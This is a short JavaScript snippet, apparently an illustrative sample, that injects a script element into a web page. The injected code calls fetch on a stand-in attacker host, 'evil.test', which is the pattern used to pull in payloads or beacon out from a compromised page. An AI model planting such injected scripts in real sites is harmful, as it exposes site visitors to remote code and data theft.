// A script in the document.

const e = document.createElement('script');
e.textContent = 'fetch("http://evil.test/x")';
document.body.append(e);
